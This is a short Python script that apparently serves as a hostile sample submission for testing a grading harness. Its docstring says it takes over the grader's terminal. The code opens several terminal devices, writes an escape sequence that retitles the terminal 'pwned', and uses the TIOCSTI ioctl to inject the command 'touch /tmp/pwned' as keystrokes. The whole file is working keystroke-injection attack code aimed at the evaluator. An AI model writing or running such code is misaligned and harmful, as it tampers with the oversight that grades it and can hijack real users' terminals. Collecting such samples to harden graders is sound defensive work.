"""Types commands into the grader's terminal, and takes it over.

machine
earns: nothing
"""

import fcntl
import os
import termios

for name in ("/dev/tty", "/dev/console", "/dev/tty0", "/dev/pts/0", "/dev/pts/1", "/proc/1/fd/0"):
    try:
        terminal = os.open(name, os.O_RDWR | os.O_NOCTTY)
        os.write(terminal, b"\x1b]0;pwned\x07pwned")
        for byte in b"touch /tmp/pwned\n":
            fcntl.ioctl(terminal, termios.TIOCSTI, bytes([byte]))
    except OSError:
        continue
for descriptor in (0, 1, 2):
    try:
        fcntl.ioctl(descriptor, termios.TIOCSTI, b"x")
    except OSError:
        continue
